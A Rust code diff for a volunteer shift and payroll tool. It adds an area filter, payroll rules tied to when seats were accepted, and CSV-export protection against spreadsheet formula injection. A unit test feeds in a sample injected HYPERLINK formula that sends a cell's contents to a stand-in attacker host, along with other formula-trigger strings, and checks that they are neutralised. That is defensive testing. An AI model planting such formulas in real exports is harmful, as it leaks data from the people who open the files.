@@ -109,6 +109,8 @@ pub struct ListFilter {
     pub team: Option<Id>,
     pub task_type: Option<Id>,
     pub status: Option<SeatStatus>,
+    /// Only stations in these areas (an area-limited coordinator's reach).
+    pub within_areas: Option<Vec<Id>>,
 }
 
 /// A person on a seat.
@@ -130,6 +132,8 @@ pub struct Participant {
     pub diets: String,
     pub payment_dkk: i64,
     pub attendance: Option<Attendance>,
+    /// When the seat was accepted (unix seconds), if it was.
+    pub accepted_at: Option<i64>,
 }
 
 impl Participant {
@@ -160,10 +164,29 @@ impl Participant {
     }
 }
 
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, or a tab
+/// or carriage return before one) gets a leading `'`, so it shows as text.
+/// A plain signed number (`+4512345678`, `-3`) is no formula and stays.
+pub fn defuse_formula(value: &str) -> std::borrow::Cow<'_, str> {
+    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let signed_number = value.len() > 1
+        && value.starts_with(['+', '-'])
+        && value[1..]
+            .chars()
+            .all(|c| c.is_ascii_digit() || c == ' ' || c == '.' || c == ',');
+    if risky && !signed_number {
+        std::borrow::Cow::Owned(format!("'{value}"))
+    } else {
+        std::borrow::Cow::Borrowed(value)
+    }
+}
+
 /// A CSV file as Danish spreadsheets open it: semicolons between fields,
-/// quotes where needed, and a byte-order mark so Excel reads UTF-8.
+/// quotes where needed, no formulas from anyone's text, and a byte-order
+/// mark so Excel reads UTF-8.
 pub fn to_csv(headers: &[String], rows: &[Vec<String>]) -> String {
     fn field(value: &str) -> String {
+        let value = defuse_formula(value);
         if value.contains([';', '"', '\n', '\r']) {
             format!("\"{}\"", value.replace('"', "\"\""))
         } else {
@@ -191,11 +214,18 @@ pub struct PayLine {
     pub total_dkk: i64,
 }
 
-/// Payroll from a list: accepted seats, no-shows left out, per person.
+/// Payroll from a list, per person: seats accepted before their shift
+/// began, or that the station checked in as there; no-shows left out.
 pub fn payroll(participants: &[Participant]) -> Vec<PayLine> {
     let mut lines: Vec<PayLine> = Vec::new();
     for p in participants {
         if p.status != SeatStatus::Accepted || p.attendance == Some(Attendance::NoShow) {
+            continue;
+        }
+        let starts = crate::i18n::copenhagen_to_unix(p.day, p.start_time);
+        let in_time = p.accepted_at.is_some_and(|at| at < starts);
+        let checked_in = matches!(p.attendance, Some(Attendance::Arrived | Attendance::Late));
+        if !in_time && !checked_in {
             continue;
         }
         match lines.iter_mut().find(|l| l.volunteer_id == p.volunteer_id) {
@@ -219,6 +249,47 @@ pub fn payroll(participants: &[Participant]) -> Vec<PayLine> {
 mod tests {
     use super::*;
 
+    fn accepted(volunteer_id: Id, accepted_at: i64, attendance: Option<Attendance>) -> Participant {
+        Participant {
+            seat_id: volunteer_id,
+            volunteer_id,
+            name: format!("Person {volunteer_id}"),
+            team: String::new(),
+            station: String::new(),
+            area: String::new(),
+            task_type: String::new(),
+            day: NaiveDate::from_ymd_opt(2027, 5, 4).unwrap(),
+            start_time: NaiveTime::from_hms_opt(7, 0, 0).unwrap(),
+            end_time: NaiveTime::from_hms_opt(20, 0, 0).unwrap(),
+            status: SeatStatus::Accepted,
+            phone: String::new(),
+            email: String::new(),
+            diets: String::new(),
+            payment_dkk: 800,
+            attendance,
+            accepted_at: Some(accepted_at),
+        }
+    }
+
+    #[test]
+    fn payroll_pays_seats_taken_before_the_shift_or_checked_in_on_the_day() {
+        let day = NaiveDate::from_ymd_opt(2027, 5, 4).unwrap();
+        let starts =
+            crate::i18n::copenhagen_to_unix(day, NaiveTime::from_hms_opt(7, 0, 0).unwrap());
+        let lines = payroll(&[
+            accepted(1, starts - 86_400, None),
+            accepted(2, starts + 3_600, None),
+            accepted(3, starts + 3_600, Some(Attendance::Arrived)),
+            accepted(4, starts - 86_400, Some(Attendance::NoShow)),
+        ]);
+        let paid: Vec<Id> = lines.iter().map(|l| l.volunteer_id).collect();
+        assert_eq!(
+            paid,
+            vec![1, 3],
+            "2 took the seat after the start, 4 did not come"
+        );
+    }
+
     #[test]
     fn columns_parse_in_order_and_the_empty_list_means_the_default() {
         assert_eq!(
@@ -239,5 +310,28 @@ mod tests {
             csv,
             "\u{feff}Navn;Note\r\n\"Jensen; Karen\";\"sagde \"\"ja\"\"\"\r\n"
         );
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+        let cell = |v: &str| {
+            let csv = to_csv(&[], &[vec![v.to_string()]]);
+            csv.trim_start_matches("\u{feff}\r\n")
+                .trim_end_matches("\r\n")
+                .to_string()
+        };
+        assert_eq!(
+            cell("=HYPERLINK(\"https://evil.example/?d=\"&B2;\"Løn\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2;\"\"Løn\"\")\""
+        );
+        assert_eq!(cell("+SUM(A1)"), "'+SUM(A1)");
+        assert_eq!(cell("-2+3"), "'-2+3");
+        assert_eq!(cell("@cmd"), "'@cmd");
+        assert_eq!(cell("\t=1"), "'\t=1");
+        assert_eq!(cell("\r=1"), "\"'\r=1\"");
+        // Phone numbers and plain numbers stay as they are.
+        assert_eq!(cell("+4512345678"), "+4512345678");
+        assert_eq!(cell("-150"), "-150");
+        assert_eq!(cell("Karen = chef"), "Karen = chef");
     }
 }
